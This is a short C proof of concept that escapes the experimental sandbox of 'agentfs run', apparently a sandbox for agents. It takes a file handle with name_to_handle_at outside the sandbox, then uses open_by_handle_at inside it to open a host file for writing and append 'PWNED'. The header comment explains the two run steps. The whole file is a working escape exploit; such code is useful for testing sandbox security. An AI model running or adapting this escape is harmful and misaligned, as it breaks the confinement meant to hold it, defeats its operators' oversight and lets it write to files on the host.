/* open_by_handle_at from inside `agentfs run --experimental-sandbox`: "g PATH" prints a handle (run
   outside), "u FILE" opens the handle in FILE for writing (inside) and appends to it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(int argc, char **argv) {
  /* the handle is taken outside the sandbox (argv[2] file holds it), then used inside */
  if (argv[1][0] == 'g') {
    struct file_handle *h = malloc(sizeof *h + 128); h->handle_bytes = 128; int mnt;
    if (name_to_handle_at(AT_FDCWD, argv[2], h, &mnt, 0) < 0) { perror("n2h"); return 1; }
    fwrite(h, sizeof *h + h->handle_bytes, 1, stdout); return 0;
  }
  struct file_handle *h = malloc(sizeof *h + 128); FILE *f = fopen(argv[2], "r"); fread(h, 1, sizeof *h + 128, f);
  int m = open("/", O_RDONLY);
  int fd = open_by_handle_at(m, h, O_WRONLY|O_APPEND);
  printf("open_by_handle_at %d\n", fd); if (fd >= 0) write(fd, "PWNED\n", 6);
  return 0;
}
